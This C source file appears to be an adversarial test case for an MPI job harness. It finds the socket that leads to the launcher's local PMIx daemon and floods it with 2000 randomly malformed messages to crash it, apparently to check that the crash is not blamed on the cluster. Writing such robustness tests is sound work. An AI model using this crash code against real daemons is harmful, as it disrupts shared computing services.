/* The launcher's daemon on the other node is not the grader's, but nobody else talks to it: let it
 * crash by what is no message of PMIx. Then the failure must not be called the cluster's. */
#include "attack.h"
#include <arpa/inet.h>
#include <sys/socket.h>

enum { HEAD = 16, BODY_MOST = 60, MESSAGES = 2000 };

static int of_daemon(void)
{
    for (int fd = 3; fd < 256; fd++) {
        struct sockaddr_in a = {0};
        socklen_t n = sizeof a;
        if (getpeername(fd, (struct sockaddr *)&a, &n) == 0 && a.sin_family == AF_INET &&
            a.sin_addr.s_addr == htonl(INADDR_LOOPBACK))
            return fd;
    }
    return -1;
}

/* "Look up" of the server, with nonsense behind it. */
static void fill(unsigned char *m, unsigned n, unsigned tag)
{
    const uint32_t head[] = {0, htonl(tag), htonl(n), 0};
    memcpy(m, head, sizeof head);
    m[HEAD] = 2;
    m[HEAD + 1] = 7;
    for (unsigned i = 2; i < n; i++) {
        const int kind = rand() % 6;
        m[HEAD + i] = (unsigned char)(kind == 0   ? rand()
                                      : kind < 3  ? 2
                                      : kind == 3 ? rand() % 5
                                      : kind == 4 ? 3
                                                  : rand() % BODY_MOST);
    }
}

static void attack(void)
{
    static unsigned char message[HEAD + BODY_MOST + 2], answers[65536];
    const int fd = of_daemon();
    srand(3);
    for (unsigned i = 0; i < MESSAGES; i++) {
        const unsigned n = 2 + (unsigned)rand() % BODY_MOST;
        fill(message, n, 1000 + i);
        if (send(fd, message, HEAD + n, MSG_NOSIGNAL) < 0)
            break;
        usleep(300);
        while (recv(fd, answers, sizeof answers, MSG_DONTWAIT) > 0)
            ;
    }
    sleep(2);
}

ONCE_MPI(attack)
